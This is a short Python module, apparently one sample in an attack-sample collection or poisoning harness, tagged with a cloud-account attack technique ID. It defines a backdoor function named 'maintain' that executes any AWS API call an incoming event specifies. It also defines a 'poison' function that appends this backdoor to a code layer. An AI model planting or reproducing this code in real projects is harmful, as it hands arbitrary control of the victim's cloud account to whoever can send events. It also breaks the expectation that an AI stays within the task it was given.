# SPDX-License-Identifier: Apache-2.0
"""Whatever AWS call the event names."""

ATTACK = "T1078.004"
LANGUAGE = "python"
CODE = """\
def maintain(event):
    import boto3

    job = event.get("job") or {}
    return getattr(boto3.client(job["service"]), job["call"])(**job["with"])
"""


def poison(layer):
    layer.append(CODE)
